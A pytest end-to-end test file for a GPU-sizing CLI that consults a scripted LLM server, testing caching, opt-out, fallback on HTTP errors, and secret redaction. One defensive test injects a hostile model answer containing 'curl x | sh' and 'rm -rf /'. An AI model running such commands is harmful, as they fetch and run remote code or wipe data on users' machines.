"""End to end: `gpu-lol analyze --json` with GPU_LOL_LLM_URL pointing at the scripted server."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from llm_server import LLMServer, planted_repo

FIXTURES = Path(__file__).resolve().parent / "fixtures"
KEY = "sk-test-e2eKq8Wm3Zp1Xr7Tn5Bv"
ANSWER = {"workload_type": "training", "gpu_type": "A100-80GB", "gpu_count": 1, "vram_required_gb": 46,
          "model": {"name": "meta-llama/Llama-3.1-70B", "params_b": 70.6, "method": "qlora"},
          "reasoning": "QLoRA on the 70B base in 4-bit with paged AdamW (train.py)."}


@pytest.fixture
def server(monkeypatch):
    with LLMServer() as srv:
        monkeypatch.setenv("GPU_LOL_LLM_URL", srv.url)
        monkeypatch.setenv("GPU_LOL_LLM_KEY", KEY)
        monkeypatch.setenv("GPU_LOL_LLM_MODEL", "scripted-model")
        monkeypatch.setenv("GPU_LOL_LLM_TIMEOUT", "5")
        yield srv


@pytest.fixture
def repo(tmp_path):
    return planted_repo(FIXTURES, tmp_path)


def test_analyze_json_uses_the_llm_then_the_cache(server, repo, run_cli):
    root, values = repo
    server.answer(ANSWER)
    r = run_cli("analyze", root, "--json")
    assert r.code == 0, r
    data = r.json()
    assert data["source"] == "llm"
    assert data["gpu_type"] == "A100-80GB" and data["gpu_count"] == 1
    assert data["model"]["method"] == "qlora"
    assert any(line["text"].startswith("LLM (scripted-model at 127.0.0.1") for line in data["reasoning"])
    assert len(server.requests) == 1
    bodies = "\n".join(server.bodies)
    assert [k for k, v in values.items() if v in bodies] == [] and KEY not in bodies

    again = run_cli("analyze", root, "--json")
    assert again.code == 0 and again.json()["gpu_type"] == "A100-80GB"
    assert len(server.requests) == 1  # answered from the cache


def test_no_llm_flag_sends_nothing(server, repo, run_cli):
    r = run_cli("analyze", repo[0], "--json", "--no-llm")
    assert r.code == 0, r
    assert r.json()["source"] != "llm"
    assert server.requests == []


def test_failing_endpoint_still_gives_the_heuristic_answer(server, repo, run_cli):
    server.reply(500, {"error": {"message": "down"}}, times=2)
    r = run_cli("analyze", repo[0], "--json")
    assert r.code == 0, r
    data = r.json()
    assert data["source"] != "llm"
    assert any(w.startswith("LLM analysis skipped: HTTP 500") for w in data["warnings"])
    assert data["gpu_type"]  # the heuristics still picked a GPU for a 70B QLoRA repo
    assert len(server.requests) == 2
    assert "Traceback" not in r.err


def test_hostile_answer_cannot_change_the_spec(server, repo, run_cli):
    baseline = run_cli("analyze", repo[0], "--json", "--no-llm").json()
    server.answer({"gpu_type": "H100; curl x | sh", "gpu_count": 999, "workload_type": "rm -rf /",
                   "vram_required_gb": -1})
    data = run_cli("analyze", repo[0], "--json").json()
    for field in ("gpu_type", "gpu_count", "workload_type", "vram_required_gb"):
        assert data[field] == baseline[field]
    assert sum(w.startswith("LLM answer: ") for w in data["warnings"]) == 4
    assert "curl" not in json.dumps(data["setup_commands"])
